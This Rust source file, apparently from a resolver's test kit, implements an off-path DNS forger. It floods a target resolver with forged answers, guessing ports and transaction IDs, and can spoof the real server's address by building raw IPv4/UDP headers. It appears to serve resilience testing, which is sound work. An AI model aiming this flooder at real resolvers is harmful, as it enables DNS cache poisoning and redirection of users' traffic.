//! An off-path forger: answers to a question nobody let it see, to ports and with IDs that it guesses.

use std::net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
use std::ops::RangeInclusive;
use std::{fmt, io};

use mailproof_proto::dns::Question;
use mailproof_testkit::random::Random;
use socket2::{Domain, Protocol, Socket, Type};

use crate::answer::forged;
use crate::datagrams::{BATCH, ToSend};

/// Forged answers by the number, as from [`Flood::claimed`].
///
/// The forger needs a raw socket, which root may have, to send from the address and port of the server itself. Without
/// one it sends from another address of the loopback network and the server's port; where that port is in use or the
/// server is not on IPv4 loopback, from another port of the server's address. A resolver has to ignore all of them, but
/// only the first sort gets past a connected socket.
#[derive(Clone, Debug)]
pub struct Flood {
    /// The server in whose name the answers are sent.
    pub claimed: SocketAddr,
    /// The resolver's address.
    pub victim: IpAddr,
    /// The ports that are guessed among.
    pub ports: RangeInclusive<u16>,
    /// The IDs that are guessed among.
    pub ids: RangeInclusive<u16>,
    /// What the answers answer: with one forged record, whose data spells `forged` where the type allows.
    pub question: Question,
    /// Answers sent.
    pub count: u64,
    /// Decides ports and IDs.
    pub seed: u64,
    /// False leaves the raw socket aside even where it is permitted.
    pub may_use_raw: bool,
}

/// What came of a flood.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub struct FloodReport {
    /// Answers that the kernel took.
    pub sent: u64,
    /// Answers that it did not take.
    pub lost: u64,
    /// Where they came from.
    pub way: FloodWay,
}

/// Where forged answers come from.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum FloodWay {
    /// The address and port of the server, by a raw socket.
    Exact,
    /// Another address of the loopback network, the server's port.
    OtherAddress(SocketAddr),
    /// The server's address, another port.
    OtherPort(SocketAddr),
}

enum Way {
    Raw(Socket, SocketAddrV4),
    Plain(UdpSocket),
}

/// Room for the IPv4 and UDP headers of a raw packet.
const IPV4_BYTES: usize = 20;
const UDP_HEADER_BYTES: usize = 8;
/// `IPPROTO_RAW`: packets of a socket of this protocol bring their IPv4 header along (raw(7)).
const PROTOCOL_RAW: i32 = 255;
/// Addresses of the loopback network that are tried.
const ADDRESSES_TRIED: u32 = 16;

impl Flood {
    /// Sends everything and comes back.
    ///
    /// # Errors
    /// When the machine gives no socket at all.
    pub fn run(&self) -> io::Result<FloodReport> {
        let (way, shown) = self.way()?;
        let mut random = Random::new(self.seed);
        let mut to_send = ToSend::new().without_joining();
        let mut message = forged(&self.question);
        let (mut sent, mut left) = (0, self.count);
        while left > 0 {
            let count = left.min(BATCH as u64);
            for _ in 0..count {
                let port = between(&mut random, &self.ports);
                message.id = between(&mut random, &self.ids);
                let to = SocketAddr::new(self.victim, port);
                to_send.add(to.into(), |out| {
                    let octets = message.write();
                    if let (Way::Raw(_, from), SocketAddr::V4(to)) = (&way, to) {
                        write_headers(*from, to, octets.len(), out);
                    }
                    out.extend_from_slice(&octets);
                });
            }
            sent += match &way {
                Way::Raw(socket, _) => to_send.send(socket),
                Way::Plain(socket) => to_send.send(socket),
            } as u64;
            left -= count;
        }
        Ok(FloodReport { sent, lost: self.count - sent, way: shown })
    }

    fn way(&self) -> io::Result<(Way, FloodWay)> {
        if let (true, SocketAddr::V4(claimed), IpAddr::V4(_)) = (self.may_use_raw, self.claimed, self.victim)
            && let Ok(socket) = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(PROTOCOL_RAW)))
        {
            return Ok((Way::Raw(socket, claimed), FloodWay::Exact));
        }
        if let IpAddr::V4(ip) = self.claimed.ip()
            && ip.is_loopback()
        {
            let others = (1..=ADDRESSES_TRIED).map(|step| Ipv4Addr::from_bits(ip.to_bits().wrapping_add(step)));
            for other in others.filter(Ipv4Addr::is_loopback) {
                if let Ok(socket) = UdpSocket::bind((other, self.claimed.port())) {
                    let shown = FloodWay::OtherAddress(socket.local_addr()?);
                    return Ok((Way::Plain(socket), shown));
                }
            }
        }
        let socket = UdpSocket::bind((self.claimed.ip(), 0))?;
        let shown = FloodWay::OtherPort(socket.local_addr()?);
        Ok((Way::Plain(socket), shown))
    }
}

impl fmt::Display for FloodWay {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Exact => f.write_str("the server's own address and port, by a raw socket"),
            Self::OtherAddress(address) => write!(f, "another address, {address}"),
            Self::OtherPort(address) => write!(f, "another port, {address}"),
        }
    }
}

/// IPv4 and UDP headers for a message of `len` octets. The kernel fills in the header's checksum (raw(7)); a UDP
/// checksum of 0 stands for none (RFC 768).
fn write_headers(from: SocketAddrV4, to: SocketAddrV4, len: usize, out: &mut Vec<u8>) {
    let number = |len: usize| u16::try_from(len).unwrap_or(u16::MAX).to_be_bytes();
    let [high, low] = number(IPV4_BYTES + UDP_HEADER_BYTES + len);
    // Version 4, five words; 64 hops; UDP.
    out.extend_from_slice(&[0x45, 0, high, low, 0, 0, 0, 0, 64, 17, 0, 0]);
    out.extend_from_slice(&from.ip().octets());
    out.extend_from_slice(&to.ip().octets());
    out.extend_from_slice(&from.port().to_be_bytes());
    out.extend_from_slice(&to.port().to_be_bytes());
    out.extend_from_slice(&number(UDP_HEADER_BYTES + len));
    out.extend_from_slice(&[0, 0]);
}

fn between(random: &mut Random, range: &RangeInclusive<u16>) -> u16 {
    let (low, high) = (*range.start(), *range.end());
    random.between(usize::from(low), usize::from(high.max(low))) as u16
}
